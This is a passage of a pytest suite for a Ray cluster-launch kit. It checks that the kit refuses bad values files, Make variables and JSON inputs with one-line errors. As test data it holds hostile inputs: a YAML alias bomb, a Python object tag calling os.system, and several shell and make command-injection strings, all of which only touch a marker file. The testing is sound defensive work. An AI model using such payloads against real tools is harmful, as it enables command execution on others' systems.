     b"a1: &a1 [x, x]\n" + b"".join(f"a{i}: &a{i} [*a{i - 1}, *a{i - 1}]\n".encode() for i in range(2, 25)),
     "expands to more than 5000 values"),
    ("a huge file", b"cluster_name: local\n" + b"#" * 70000 + b"\n", "a values file is at most 65536"),
    ("a number as a key", b"cluster_name: local\n1: x\n", "key 1 is not a string"),
    ("a Python object tag", b"cluster_name: !!python/object/apply:os.system ['touch /tmp/raykit-pwned']\n",
     "not valid YAML"),
    ("a 60 KB unknown key: the error stays short",
     b"cluster_name: local\nprovider: local\nhead: {cpus: 1}\n? " + b"k" * 60000 + b"\n: 1\n", "unknown key"),
    ("a 60 KB value: the error stays short",
     b"cluster_name: " + b"x" * 60000 + b"\nprovider: local\nhead: {cpus: 1}\n", "cluster_name"),
    ("an out-of-range date", b"cluster_name: 2020-13-45\nprovider: local\n", "not valid YAML"),
]


@pytest.mark.parametrize("name,cluster,change,message", VALUE_CASES, ids=[c[0] for c in VALUE_CASES])
def test_bad_values_are_refused_naming_the_key(monkeypatch, capsys, name, cluster, change, message):
    line = kit_error(monkeypatch, capsys, cluster, edited(cluster, change))
    assert message in line
    assert f"cluster_templates/{cluster}.yaml" in line  # names the file to edit


@pytest.mark.parametrize("name,data,message", FILE_CASES, ids=[c[0] for c in FILE_CASES])
def test_malformed_values_files_are_refused(monkeypatch, capsys, name, data, message):
    line = kit_error(monkeypatch, capsys, "local", data)
    assert message in line and "cluster_templates/local.yaml" in line
    assert not os.path.exists("/tmp/raykit-pwned")


def number_keys(rule: dict, root: dict, values, key: str = ""):
    """Every dotted key of `values`' schema that takes a number, walked through $ref and
    into each named map entry (workers) the values file has: where a non-finite one could
    hide."""
    from scripts.core.values import resolve

    rule = resolve(rule, root)
    kinds = rule.get("type")
    kinds = kinds if isinstance(kinds, list) else [kinds]
    if "number" in kinds or "integer" in kinds:
        yield key
    children = dict.fromkeys(rule.get("properties", {}))
    if isinstance(rule.get("additionalProperties"), dict) and isinstance(values, dict):
        children |= dict.fromkeys(set(values) - set(children))
    for name in children:
        sub = rule.get("properties", {}).get(name) or rule["additionalProperties"]
        yield from number_keys(sub, root, (values or {}).get(name) if isinstance(values, dict) else None,
                               f"{key}.{name}" if key else name)


def put(values: dict, dotted: str, value) -> None:
    """set_path, making the maps on the way (a key left to its default)."""
    *parents, last = dotted.split(".")
    for key in parents:
        values = values.setdefault(key, {})
    values[last] = value


NOT_FINITE = [(float("nan"), ".nan"), (float("inf"), ".inf"), (float("-inf"), "-.inf")]


@pytest.mark.parametrize("cluster", ["local", "hetero", "k8s_hetero"])
def test_no_number_of_a_values_file_may_be_nan_or_infinite(monkeypatch, capsys, cluster):
    """Every bound holds for NaN (a comparison with it is False): `.nan` validated as a
    cpu_quota, a stall limit or the autopilot's $/h ceiling, and failed mid-launch or
    switched the check off. Every key the schema reads as a number, each in YAML's three
    spellings, is one line naming the key."""
    from scripts.core.values import load_schema
    from scripts.core.paths import REPO as KIT_REPO

    base = load_example(cluster)
    schema = load_schema(KIT_REPO / "cluster_templates" / "schema" / f"{base['provider']}.schema.yaml")
    keys = sorted(set(number_keys(schema, schema, base)))
    assert {"stall_minutes", "autopilot.cooldown_s", "autopilot.max_usd_per_hour"} <= set(keys)
    for i, key in enumerate(keys):
        number, spelled = NOT_FINITE[i % 3]
        values = load_example(cluster)
        put(values, key, number)
        line = kit_error(monkeypatch, capsys, cluster, yaml.safe_dump(values).encode())
        assert f"{key}: {spelled} is not a number; write a finite one" in line, (key, line)


def test_a_non_finite_number_where_no_rule_reads_one_is_refused_too(monkeypatch, capsys):
    values = load_example("hetero")
    values["aws"]["tags"] = {"team": float("nan")}
    line = kit_error(monkeypatch, capsys, "hetero", yaml.safe_dump(values).encode())
    assert "aws.tags.team: .nan is not a number; write a finite one" in line


def test_a_key_typed_wrong_is_said_once(monkeypatch, capsys):
    """Its did-you-mean, not also "'cpus' is required" for the key it was meant to be."""
    line = kit_error(monkeypatch, capsys, "local", b"cluster_name: a\nprovider: local\nhead: {cpsu: 1}\n")
    assert "did you mean 'cpus'?" in line and "is required" not in line


def test_a_values_file_outside_the_checkout_is_named_where_it_is(capsys):
    """A user's own mix in RAYKIT_VALUES_DIR: the error names that file, not one in
    cluster_templates/ that does not exist."""
    mine = USER_VALUES / "mine_outside.yaml"
    mine.write_text("cluster_name: mine_outside\nprovider: local\nhead: {cpus: 0}\n")
    try:
        assert kit.main(["validate", "--cluster", "mine_outside"]) == 2
    finally:
        mine.unlink()
    assert capsys.readouterr().err.startswith(f"error: {mine}: head.cpus: ")


def test_a_missing_values_file_names_every_folder_it_was_looked_for_in(capsys):
    """A CLUSTER found nowhere: the line names cluster_templates/ and RAYKIT_VALUES_DIR (it
    named cluster_templates/ alone, where a user of their own folder had not looked)."""
    assert kit.main(["validate", "--cluster", "nowhere_mix"]) == 2
    (line,) = capsys.readouterr().err.splitlines()
    assert line.startswith(f"error: CLUSTER=nowhere_mix: no values file nowhere_mix.yaml in "
                           f"{USER_VALUES}/ or cluster_templates/; choose one of: ")


def test_every_problem_is_counted_in_one_line(monkeypatch, capsys):
    def two_problems(v):
        rename(v, "head.instance_type", "instnce_type")
        v["workers"]["cpu_worker"]["spot"] = "yes"
    line = kit_error(monkeypatch, capsys, "hetero", edited("hetero", two_problems))
    assert "instnce_type" in line and "spot" in line


# --- strings that are allowed land as exactly one scalar ------------------------------

def test_allowed_odd_strings_render_inert(hetero_values):
    """Characters YAML gives meaning to (`: `, `#`-free but `=`, `/`, `@`, spaces) are
    allowed in tags and reach the config as the same single string."""
    hetero_values["aws"]["tags"] = {"team: ml": "a: b/c=d @e + f", "x-y": ""}
    config = build_text("hetero", yaml.safe_dump(hetero_values).encode()).config
    for node_type in config["available_node_types"].values():
        tags = node_type["node_config"]["TagSpecifications"][0]["Tags"]
        assert {"Key": "team: ml", "Value": "a: b/c=d @e + f"} in tags
        assert {"Key": "x-y", "Value": ""} in tags
        assert set(node_type["node_config"]) <= {"InstanceType", "ImageId", "MetadataOptions",
                                                 "BlockDeviceMappings", "TagSpecifications",
                                                 "InstanceMarketOptions", "KeyName",
                                                 "InstanceInitiatedShutdownBehavior",
                                                 "IamInstanceProfile", "UserData"}


def test_a_template_cannot_paste_a_string():
    from scripts.build import only_serialized
    from scripts.core.errors import KitError

    with pytest.raises(KitError, match="tojson"):
        only_serialized("a\nb: c")
    assert only_serialized(3) == 3


# --- the Make variables, through make itself ------------------------------------------

MARK = "/tmp/raykit-test-injected"
# (case, make target, variable assignments, the variable the error must name)
MAKE_CASES = [
    ("shell in CLUSTER", "validate", [f"CLUSTER=x; touch {MARK}"], "CLUSTER="),
    ("command substitution in CLUSTER", "validate", [f"CLUSTER=$(touch {MARK})"], "CLUSTER="),
    ("make function in CLUSTER", "validate", [f"CLUSTER=$(shell touch {MARK})"], "CLUSTER="),
    ("backticks in CLUSTER", "validate", [f"CLUSTER=`touch {MARK}`"], "CLUSTER="),
    ("a flag for another cluster in CLUSTER", "down", ["CLUSTER=local --cluster hetero"], "CLUSTER="),
    ("traversal in CLUSTER", "render", ["CLUSTER=../cluster_templates/hetero"], "CLUSTER="),
    ("absolute path in CLUSTER", "down", [f"CLUSTER={MARK}.json"], "CLUSTER="),
    ("a missing cluster", "validate", ["CLUSTER=heteor"], "CLUSTER=heteor: no values file"),
    ("shell in JOB", "submit", [f"JOB=smoke; touch {MARK}"], "JOB="),
    ("traversal in JOB", "submit", ["JOB=../scripts"], "JOB="),
    ("absolute path in JOB", "run", ["JOB=/tmp"], "JOB="),
    ("a missing job", "submit", ["JOB=vit_synthetc"], "JOB=vit_synthetc: no job"),
    ("unclosed quote in ARGS", "submit", ['ARGS=--steps "2'], "ARGS="),
    ("trailing backslash in ARGS", "run", ["ARGS=--steps 2 \\"], "ARGS="),
    ("shell in TIMEOUT", "submit", [f"TIMEOUT=1; touch {MARK}"], "TIMEOUT="),
    ("negative TIMEOUT", "submit", ["TIMEOUT=-5"], "TIMEOUT="),
    ("zero TIMEOUT", "run", ["TIMEOUT=0"], "TIMEOUT="),
    ("infinite TIMEOUT", "submit", ["TIMEOUT=inf"], "TIMEOUT="),
    ("NaN TIMEOUT", "submit", ["TIMEOUT=nan"], "TIMEOUT="),
    ("DRY_RUN that is not 0 or 1", "up", [f"DRY_RUN=1; touch {MARK}"], "DRY_RUN="),
    ("PURGE that is not 0 or 1", "down", ["PURGE=yes"], "PURGE="),
    ("shell in a job ID", "logs", [f"ID=x; touch {MARK}"], "ID="),
    ("stop-job without an ID", "stop-job", [], "set ID="),
    ("FOLLOW that is not 0 or 1", "logs", ["FOLLOW=always"], "FOLLOW="),
    ("VERBOSE that is not 0 or 1", "submit", ["VERBOSE=$(id)"], "VERBOSE="),
    ("images into a system directory", "images", ["ARGS=--count 1 --dir /etc"], "--dir '/etc' holds other files"),
    ("shell in PROFILE", "plan", [f"PROFILE=x; touch {MARK}"], "PROFILE="),
    ("make function in PROFILE", "plan", [f"PROFILE=$(shell touch {MARK})"], "PROFILE="),
    ("a device as PROFILE", "plan", ["PROFILE=/dev/zero"], "PROFILE="),
    ("a directory as PROFILE", "plan", ["PROFILE=/tmp"], "PROFILE="),
    ("an unreadable PROFILE", "plan", ["PROFILE=/proc/1/environ"], "PROFILE="),
    ("shell in CLUSTERS", "bench", [f"CLUSTERS=local_single; touch {MARK}"], "CLUSTERS="),
    ("traversal in CLUSTERS", "bench", ["CLUSTERS=local_single ../cluster_templates/hetero"], "CLUSTERS="),
    ("a missing cluster in CLUSTERS", "bench", ["CLUSTERS=local_single heteor"], "CLUSTER=heteor: no values file"),
    ("eleven CLUSTERS", "bench", ["CLUSTERS=" + " ".join(["local_single"] * 11)], "CLUSTERS="),
    ("a bad TIMEOUT for bench", "bench", ["TIMEOUT=never"], "TIMEOUT="),
    ("make function in FROM", "bench", [f"FROM=$(shell touch {MARK})"], "FROM="),
    ("a directory as FROM", "bench", ["FROM=/tmp"], "FROM="),
    ("a device as FROM", "bench", ["FROM=/dev/zero"], "FROM="),
    ("shell in plan ARGS", "plan", [f"ARGS=--trainer-images-per-s 1 --cpu-images-per-s 1 --write x;touch{MARK}"], "--write"),
]


# A case whose text a shell or make could read as code goes through `make` itself: what is
# tested there is that the Makefile never lets it become code. The others are values the
# kit refuses; they run in this process (a `make` and a Python per case cost ~2 s each).
SHELL_SHAPED = (";", "$", "`")
THROUGH_MAKE = [c for c in MAKE_CASES if any(ch in a for a in c[2] for ch in SHELL_SHAPED)]
VALUE_ONLY = [c for c in MAKE_CASES if c not in THROUGH_MAKE]


def test_every_shell_shaped_case_goes_through_make():
    through_make = {c[0] for c in THROUGH_MAKE}
    assert {"shell in CLUSTER", "command substitution in CLUSTER", "make function in CLUSTER",
            "backticks in CLUSTER", "VERBOSE that is not 0 or 1"} <= through_make
    assert len(through_make) + len(VALUE_ONLY) == len(MAKE_CASES)


@pytest.mark.parametrize("name,target,assignments,variable", VALUE_ONLY, ids=[c[0] for c in VALUE_ONLY])
def test_bad_variable_values_are_one_line_naming_the_variable(monkeypatch, capsys, name, target,
                                                              assignments, variable):
    """As `make TARGET VAR=value` hands them over: the raw text in KIT_VAR."""
    from scripts.core.paths import LAUNCHED

    for assignment in assignments:
        key, value = assignment.split("=", 1)
        monkeypatch.setenv(f"KIT_{key}", value)
    assert kit.main([target]) == 2
    out, err = capsys.readouterr()
    errors = [line for line in err.splitlines() if line.startswith("error:")]
    assert len(errors) == 1 and variable in errors[0] and err.count("\n") == 1, err
    assert "Traceback" not in out + err
    assert not list(LAUNCHED.glob("*.json"))  # nothing launched


@pytest.mark.parametrize("name,target,assignments,variable", THROUGH_MAKE, ids=[c[0] for c in THROUGH_MAKE])
def test_bad_make_variables_are_refused_as_data(tmp_path, name, target, assignments, variable):
    env = dict(os.environ, RAYKIT_BUILD_DIR=str(tmp_path / "build"))
    run = make(target, *assignments, env=env, timeout=120)
    errors = [line for line in run.stderr.splitlines() if line.startswith("error:")]
    assert run.returncode != 0 and "Error 2" in run.stderr, run.stdout + run.stderr  # the kit's exit 2
    assert len(errors) == 1 and variable in errors[0], run.stderr
    assert "Traceback" not in run.stdout + run.stderr
    assert not os.path.exists(MARK) and not os.path.exists(f"{MARK}.json")
    assert not list((tmp_path / "build").glob("launched/*.json"))  # nothing launched


FOREIGN_VARIABLES = [f"FOO=$(shell touch {MARK})", f"KIT_CLUSTER=$(shell touch {MARK})",
                     f"PY=touch {MARK};", f"KIT=touch {MARK};", f"MAKEFLAGS=$(shell touch {MARK})",
                     f"VENV=$(shell touch {MARK})"]


@pytest.mark.parametrize("assignment", FOREIGN_VARIABLES)
def test_variables_the_makefile_does_not_know_are_refused_before_anything_runs(tmp_path, assignment):
    run = make("validate", assignment, env=dict(os.environ, RAYKIT_BUILD_DIR=str(tmp_path)))
    name = assignment.split("=")[0]
    assert run.returncode == 2 and f"error: {name} is not a variable of this Makefile" in run.stderr
    assert len(run.stderr.strip().splitlines()) == 1 and not os.path.exists(MARK)


def test_a_path_as_cluster_never_deletes_a_file(tmp_path):
    victim = tmp_path / "precious.json"
    victim.write_text("{}")
    run = make("down", f"CLUSTER={tmp_path}/precious", env=dict(os.environ, RAYKIT_BUILD_DIR=str(tmp_path / "b")))
    assert run.returncode != 0 and victim.exists()


def test_quoted_args_reach_the_job_exactly_as_a_shell_splits_them():
    from scripts.core.inputs import split_args

    assert split_args("--name 'a b' --x \"$HOME\" `id` ';'") == ["--name", "a b", "--x", "$HOME", "`id`", ";"]


def test_make_passes_quotes_and_dollars_through_untouched():
    """What the kit receives from make: the variables' raw text, via its environment."""
    makefile = (REPO / "Makefile").read_text().split(".DEFAULT_GOAL")[0]
    run = subprocess.run(["make", "-f", "-", "probe", "CLUSTER=a;b", "JOB=$(shell id)",
                          "ARGS=--x \"a b\" $HOME `id` $$y", "TIMEOUT=1e3"],
                         input=makefile + "probe:\n\t@env -0\n", cwd=REPO, capture_output=True,
                         text=True)
    seen = dict(item.split("=", 1) for item in run.stdout.split("\0") if item.startswith("KIT_"))
    assert [seen["KIT_CLUSTER"], seen["KIT_JOB"], seen["KIT_ARGS"], seen["KIT_TIMEOUT"]] == \
        ["a;b", "$(shell id)", "--x \"a b\" $HOME `id` $$y", "1e3"], run.stderr


# --- unexpected errors ------------------------------------------------------------------

def test_an_internal_error_says_so_and_where_the_details_are(monkeypatch, capsys, tmp_path):
    monkeypatch.setattr(kit, "LOGS", tmp_path)
    monkeypatch.setitem(kit.COMMANDS, "validate", lambda a: {}["boom"])
    assert kit.main(["validate"]) == 70
    err = capsys.readouterr().err
    assert err.startswith("error: internal error in the kit (KeyError)") and len(err.splitlines()) == 1
    (log,) = tmp_path.glob("kit-error-*.log")
    assert str(log) in err and "Traceback" in log.read_text()


def test_an_internal_error_with_no_writable_log_dir_stays_inside_build(monkeypatch, capsys, tmp_path):
    blocker = tmp_path / "logs"
    blocker.write_text("a file where build/logs belongs")
    monkeypatch.setattr(kit, "LOGS", blocker)
    monkeypatch.setitem(kit.COMMANDS, "validate", lambda a: {}["boom"])
    before = set(Path(tempfile.gettempdir()).glob("kit-error-*.log"))
    assert kit.main(["validate"]) == 70
    err = capsys.readouterr().err
    assert "Traceback" in err and f"{blocker} could not be written" in err
    assert set(Path(tempfile.gettempdir()).glob("kit-error-*.log")) == before


# --- what the kit finds under build/ ----------------------------------------------------

def kit_run(build_dir: Path, command: str) -> subprocess.CompletedProcess:
    """The CLI on a build dir of the test's own, as the Makefile runs it; a hang fails."""
    env = dict(os.environ, RAYKIT_BUILD_DIR=str(build_dir), KIT_CLUSTER="local")
    return subprocess.run([sys.executable, "-m", "scripts.kit", command], cwd=REPO, env=env,
                          capture_output=True, text=True, timeout=60)


def one_error_line(run: subprocess.CompletedProcess) -> str:
    assert run.returncode == 2, run.stderr
    (line,) = run.stderr.splitlines()
    assert line.startswith("error: ") and "Traceback" not in run.stderr
    return line


@pytest.mark.parametrize("plant", ["fifo", "huge", "directory", "symlink"])
def test_a_record_of_the_wrong_kind_is_one_line_never_a_hang(tmp_path, plant):
    launched = tmp_path / "build" / "launched"
    launched.mkdir(parents=True)
    record = launched / "local.json"
    if plant == "fifo":
        os.mkfifo(record)
    elif plant == "huge":
        with open(record, "wb") as f:
            f.truncate(1 << 30)  # sparse: 1 GiB that takes no disk
    elif plant == "directory":
        record.mkdir()
    else:
        record.symlink_to("/dev/zero")
    assert "launched/local.json is corrupt" in one_error_line(kit_run(tmp_path / "build", "status"))


def test_a_lock_file_of_the_wrong_kind_is_one_line_never_a_hang(tmp_path):
    launched = tmp_path / "build" / "launched"
    launched.mkdir(parents=True)
    os.mkfifo(launched / "local.lock")
    assert "local.lock" in one_error_line(kit_run(tmp_path / "build", "down"))


def test_a_file_where_a_build_dir_belongs_is_one_line(tmp_path):
    (tmp_path / "build").mkdir()
    (tmp_path / "build" / "launched").write_text("not a directory")
    assert "launched cannot be a directory" in one_error_line(kit_run(tmp_path / "build", "down"))


def test_unknown_command_and_flags_are_one_line(capsys):
    assert kit.main(["launch"]) == 2
    assert kit.main(["validate", "--clutser", "x"]) == 2
    err = capsys.readouterr().err.splitlines()
    assert len(err) == 2 and all(line.startswith("error: ") for line in err)


# --- every string field, found by walking the examples ---------------------------------

PAYLOADS = ["x\nsetup_commands: [touch /tmp/raykit-pwned]", 'x"; touch /tmp/raykit-pwned #',
            "x $(touch /tmp/raykit-pwned)", "x` id `"]


def string_slots(value, path=()):
    """(path, is_key) of every string in parsed YAML: values and the keys of user maps."""
    if isinstance(value, str):
        yield path, False
    elif isinstance(value, dict):
        for key, child in value.items():
            if path and path[-1] in ("workers", "tags"):  # names the user chooses
                yield path + (key,), True
            yield from string_slots(child, path + (key,))
    elif isinstance(value, list):
        for i, child in enumerate(value):
            yield from string_slots(child, path + (i,))


def planted(values, path, is_key, payload):
    *parents, last = path
    node = values
    for part in parents:
        node = node[part]
    if is_key:
        node[payload] = node.pop(last)
    else:
        node[last] = payload


def every_field_set(cluster: str) -> dict:
    """The example with its optional strings (null or empty there) set to valid values."""
    values = load_example(cluster)
    if cluster == "hetero":
        values["aws"] |= {"availability_zone": "us-east-1a", "image_id": "ami-0123456789abcdef0",
                          "key_pair": "mine", "subnet_ids": ["subnet-0123456789abcdef0"],
                          "security_group_ids": ["sg-01234567"], "iam_instance_profile": "ray-head"}
        values["aws"]["ssh_cidr"] = "auto"  # a range cannot go with security_group_ids
        values["docker"]["extra_run_options"] = ["--cap-add=SYS_PTRACE"]
    return values


SLOTS = [(cluster, path, is_key) for cluster in ("hetero", "local")
         for path, is_key in string_slots(every_field_set(cluster))]


def test_the_walk_starts_from_valid_files():
    for cluster in ("hetero", "local"):
        build_text(cluster, yaml.safe_dump(every_field_set(cluster)).encode())


@pytest.mark.parametrize("cluster,path,is_key", SLOTS,
                         ids=[f"{c}:{'.'.join(map(str, p))}{' (key)' if k else ''}" for c, p, k in SLOTS])
def test_every_string_field_refuses_injection(cluster, path, is_key):
    from scripts.core.errors import KitError

    assert len(SLOTS) >= 20  # the walk found the fields
    for payload in PAYLOADS:
        values = every_field_set(cluster)
        planted(values, path, is_key, payload)
        with pytest.raises(KitError) as refused:
            build_text(cluster, yaml.safe_dump(values).encode())
        assert "\n" not in str(refused.value)
    assert not os.path.exists("/tmp/raykit-pwned")


# --- the price-performance surfaces: plan, bench FROM=, the JSON the kit writes ---------

EXTREME_NUMBERS = [10 ** 400, 1e308, 5e-324, -0.0]


@pytest.mark.parametrize("figure", EXTREME_NUMBERS, ids=repr)
def test_extreme_profile_figures_are_one_line_naming_the_figure(tmp_path, capsys, figure):
    path = tmp_path / "summary.json"
    path.write_text(json.dumps({"trainer_images_per_s": figure, "preprocess_images_per_s_per_cpu": 5}))
    assert kit.main(["plan", "--profile", str(path)]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and err.startswith("error: trainer images/s: ")


@pytest.mark.parametrize("field", ["usd_per_hour", "mean_step_s", "images_per_s"])
@pytest.mark.parametrize("figure", EXTREME_NUMBERS, ids=repr)
def test_extreme_bench_rows_are_one_line_naming_the_field(tmp_path, capsys, field, figure):
    row = {"name": "a", "usd_per_hour": 1.0, "mean_step_s": 0.1} | {field: figure}
    path = tmp_path / "rows.json"
    path.write_text(json.dumps([row]))
    assert kit.main(["bench", "--from", str(path)]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and f"rows[0].{field}" in err


def test_a_plan_that_no_values_file_can_hold_is_refused_not_searched_for_ever(capsys):
    """10^7 images/s fed at 0.001 per vCPU: billions of vCPUs; refused at once."""
    args = "--trainer-images-per-s 10000000 --cpu-images-per-s 0.001 --write toobig"
    assert kit.main(["plan", "--args", args]) == 2
    err = capsys.readouterr().err
    assert "more than 100 workers of any CPU type hold" in err
    assert not (USER_VALUES / "toobig.yaml").exists() and not (REPO / "cluster_templates" / "toobig.yaml").exists()


def test_a_null_figure_in_a_profile_names_its_key(tmp_path, capsys):
    path = tmp_path / "summary.json"
    path.write_text('{"trainer_images_per_s": null, "preprocess_images_per_s_per_cpu": 5}')
    assert kit.main(["plan", "--profile", str(path)]) == 2
    assert "trainer_images_per_s is null" in capsys.readouterr().err


def test_plan_help_is_documented_and_answers(capsys):
    assert kit.main(["plan", "--args=--help"]) == 0
    assert "--trainer-images-per-s" in capsys.readouterr().out


def test_repeated_row_names_are_refused(tmp_path, capsys):
    path = tmp_path / "rows.json"
    row = {"name": "a", "usd_per_hour": 1.0, "mean_step_s": 0.1}
    path.write_text(json.dumps([row, dict(row, mean_step_s=0.2)]))
    assert kit.main(["bench", "--from", str(path)]) == 2
    assert "rows[1].name: 'a' names rows[0] too" in capsys.readouterr().err


def test_what_the_kit_writes_as_json_it_reads_back(tmp_path):
    """A job summary may hold Infinity (a rate over a zero time): the kit's copy in
    build/results/ is standard JSON, which `make plan PROFILE=` reads."""
    from scripts.core.inputs import json_text, read_json
    from scripts.core.submit import keep_result

    keep_result(tmp_path, "job-1", "vit_synthetic", [], 0,
                {"trainer_images_per_s": float("inf"), "steps": [1.0, float("nan")]})
    kept = read_json("PROFILE", str(tmp_path / "job-1.json"), "")
    assert kept["result"] == {"trainer_images_per_s": None, "steps": [1.0, None]}
    assert json.loads(json_text({"a": float("-inf")})) == {"a": None}


def test_a_jobs_summary_is_standard_json():
    sys.path.insert(0, str(REPO / "jobs"))
    from raykit.contract import finite

    assert json.dumps(finite({"d": {"rate": float("inf")}, "x": [float("nan"), 2.0]}),
                      allow_nan=False) == '{"d": {"rate": null}, "x": [null, 2.0]}'


def test_a_second_values_file_cannot_take_over_a_running_cluster(hetero_values):
    """mine.yaml copied from hetero.yaml keeps cluster_name: hetero; with hetero up, `ray up`
    of mine would reconfigure it and `make down CLUSTER=mine` terminate it: the preflight
    (the first step of `make up`) refuses, naming the name and the fix."""
    import boto3
    from moto import mock_aws

    from scripts.core.errors import KitError
    from scripts.providers.aws.preflight import cluster_name_problems

    with mock_aws():
        ec2 = boto3.client("ec2", region_name="us-east-1")
        assert cluster_name_problems(ec2, "hetero", "us-east-1") == []
        image = ec2.describe_images(Owners=["amazon"])["Images"][0]["ImageId"]
        ec2.run_instances(ImageId=image, MinCount=1, MaxCount=1, InstanceType="c5.large",
                          TagSpecifications=[{"ResourceType": "instance", "Tags": [
                              {"Key": "ray-cluster-name", "Value": "hetero"}]}])
        (problem,) = cluster_name_problems(ec2, "hetero", "us-east-1")
        assert problem.startswith("cluster_name: 'hetero' is in use in us-east-1: 1 instance(s)")
        assert cluster_name_problems(ec2, "hetero2", "us-east-1") == []
        from scripts.providers.aws.preflight import preflight
        with pytest.raises(KitError, match="cluster_name: 'hetero' is in use"):
            preflight(build_text("mine", yaml.safe_dump(hetero_values).encode()).values)


@pytest.mark.parametrize("clusters,message", [
    ("local_single local_single", "CLUSTERS: local_single named twice"),
    ("local_single hetero", "CLUSTERS: mixes aws and local values files"),
    # a name that is none: the values files are offered, not the jobs
    ("local_single ../x", "CLUSTERS='../x' is not a name (lowercase letters, digits, '_' and '-', starting "
                          "with a letter, at most 40); set CLUSTERS to one of: "),
])
def test_bench_refuses_before_any_cluster_starts(capsys, clusters, message):
    from scripts.core.paths import LAUNCHED

    before = sorted(LAUNCHED.glob("*.json")) if LAUNCHED.is_dir() else []
    assert kit.main(["bench", "--clusters", clusters]) == 2
    err = capsys.readouterr().err
    assert message in err
    if "one of: " in message:  # the values files, never the jobs
        offered = err.split("one of: ")[1].strip().split(", ")
        assert {"hetero", "local_single"} <= set(offered) and "vit_synthetic" not in offered
    assert (sorted(LAUNCHED.glob("*.json")) if LAUNCHED.is_dir() else []) == before


def test_bench_dry_run_launches_nothing(capsys):
    from scripts.core.paths import LAUNCHED

    before = sorted(LAUNCHED.glob("*.json")) if LAUNCHED.is_dir() else []
    assert kit.main(["bench", "--dry-run", "1"]) == 0
    out = capsys.readouterr().out
    assert "== local_single" in out and "== local_hetero" in out and "nothing is launched" in out
    assert (sorted(LAUNCHED.glob("*.json")) if LAUNCHED.is_dir() else []) == before


def test_a_prices_as_file_that_does_not_validate_fails_validate(monkeypatch, capsys):
    """local_hetero priced as an AWS file with a typo: `make validate` says so, instead of
    `make cost` or `make bench` failing later."""
    import uuid

    name = f"broken_{uuid.uuid4().hex[:8]}"
    broken = load_example("hetero")
    broken["workers"]["cpu_worker"]["instance_type"] = "c5.4xlage"
    path = USER_VALUES / f"{name}.yaml"
    path.write_text(yaml.safe_dump(broken))
    try:
        line = kit_error(monkeypatch, capsys, "local_hetero",
                         edited("local_hetero", lambda v: set_path(v, "prices_as", name)))
    finally:
        path.unlink()
    assert f"prices_as: {name} does not validate" in line and "c5.4xlage" in line


def test_a_tag_in_any_script_is_allowed_as_aws_allows_it():
    values = load_example("hetero")
    values["aws"]["tags"] = {"équipe": "Forschung-Müller 研究"}
    config = build_text("hetero", yaml.safe_dump(values, allow_unicode=True).encode()).config
    tags = config["available_node_types"]["ray.head.default"]["node_config"]["TagSpecifications"][0]["Tags"]
    assert {"Key": "équipe", "Value": "Forschung-Müller 研究"} in tags


def test_bench_wait_refuses_bad_input_with_exit_2(tmp_path):
    env = dict(os.environ, RAYKIT_BUILD_DIR=str(tmp_path / "build"))
    run = subprocess.run([sys.executable, "-m", "scripts.benchmarks.bench_wait", "--cluster", "../x"],
                         cwd=REPO, env=env, capture_output=True, text=True, timeout=60)
    assert run.returncode == 2 and run.stderr.startswith("error: CLUSTER='../x' is not a name")
    assert "Traceback" not in run.stderr


def test_bench_wait_tears_down_only_a_cluster_it_launched(monkeypatch, capsys):
    """The launch refused (no capacity, say, or another `make up` of it won the race):
    bench-wait says so in one line and tears nothing down, through the kit's one
    running-or-started helper."""
    from scripts.benchmarks import bench_wait
    from scripts.commands import jobs
    from scripts.core.errors import KitError

    torn_down = []

    def refused(built, ready=None):
        raise KitError("no capacity for the head")

    monkeypatch.setattr(jobs, "preflight_and_launch", refused)
    monkeypatch.setattr(jobs, "teardown", lambda cluster, purge=False: torn_down.append(cluster))
    assert bench_wait.main(["--cluster", "local"]) == 2
    assert capsys.readouterr().err == "error: no capacity for the head\n"
    assert torn_down == []


# --- one entrance: every command refuses what validate refuses --------------------------

ENTRANCES = [["validate"], ["render"], ["preflight"], ["up", "--dry-run", "1"], ["up"], ["cost"],
             ["run", "--job", "smoke", "--dry-run", "1"], ["run", "--job", "smoke"]]


@pytest.mark.parametrize("cluster,change,said", [
    # a ceiling under the mix's own price at min_workers: the autopilot could never run
    ("local_autopilot", lambda v: v["autopilot"].update(max_usd_per_hour=0.01), "max_usd_per_hour"),
    ("local", lambda v: v.update(prices_as="nosuch"), "prices_as"),
])
def test_every_command_refuses_the_values_file_validate_refuses_with_the_same_line(
        monkeypatch, capsys, cluster, change, said):
    """The pricing's checks (a local mix's prices_as, an autopilot's $/h ceiling) ran in
    validate, run and submit only: `make up` launched such a file, and `make submit` failed
    once the cluster was up. Every command goes through one entrance (commands/checked.py)."""
    data = edited(cluster, change)
    monkeypatch.setattr(entrance, "build", lambda name: build_text(name, data))
    lines = set()
    for command in ENTRANCES:
        code = kit.main([command[0], "--cluster", cluster, *command[1:]])
        out, err = capsys.readouterr()
        assert code == 2 and len(err.splitlines()) == 1 and said in err, (command, out, err)
        assert "launching" not in out and "is up" not in out, command
        lines.add(err)
    assert len(lines) == 1, lines  # the same line from every command


@pytest.mark.parametrize("job", ["vit_synthetic", "template"])
def test_a_jobs_help_needs_no_cluster(capfd, job):
    """`make submit JOB=x ARGS=--help` said the cluster was not up: the job's flags are
    its main.py's to say, here, with nothing launched (no local cluster runs in this phase)."""
    code = kit.main(["submit", "--cluster", "local", "--job", job, "--args=--help"])
    out, err = capfd.readouterr()
    assert code == 0 and "usage: main.py" in out and "--steps" in out, out + err


def test_make_cost_of_a_mix_it_cannot_price_exits_non_zero(monkeypatch, capsys):
    """A region the catalog does not price: the table's line, then exit 2 (it exited 0,
    and a script took the mix for priced)."""
    data = edited("hetero", lambda v: v["aws"].update(region="eu-west-1"))
    monkeypatch.setattr(entrance, "build", lambda name: build_text(name, data))
    assert kit.main(["cost", "--cluster", "hetero"]) == 2
    out, err = capsys.readouterr()
    assert out.startswith("no list prices for eu-west-1") and "cannot be priced" in err
    monkeypatch.undo()
    assert kit.main(["cost", "--cluster", "hetero"]) == 0


@pytest.mark.parametrize("args,said", [
    (["--storage", "runs/a"], "'runs/a' as the job's storage is a relative path"),
    (["--storage-path=ckpt"], "'ckpt' as the job's storage is a relative path"),
])
def test_a_relative_storage_is_refused_before_any_job_is_uploaded(args, said):
    """pyarrow refuses a path with no scheme: the run failed on the cluster, after the upload
    and its packages' install."""
    from scripts.core.submit import storage_problems

    (problem,) = storage_problems(args)
    assert problem.startswith("ARGS: ") and said in problem
